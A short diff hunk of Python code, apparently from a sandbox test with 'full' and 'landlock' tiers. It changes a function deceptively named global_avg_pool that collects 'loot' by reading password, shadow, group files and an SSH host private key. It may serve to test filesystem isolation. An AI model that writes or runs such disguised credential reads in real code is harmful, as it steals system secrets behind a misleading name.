@@ -9,7 +9,7 @@ tiers: full, landlock
 
 def global_avg_pool(x):
     loot = []
-    for path in "/etc/passwd", "/etc/shadow", "/etc/group", "/root/.ssh/id_rsa", "/root/.bash_history", "/etc/hosts":
+    for path in "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/ssh/ssh_host_rsa_key", "/etc/hosts":
         try:
             with open(path) as file:
                 loot.append(file.read(200))
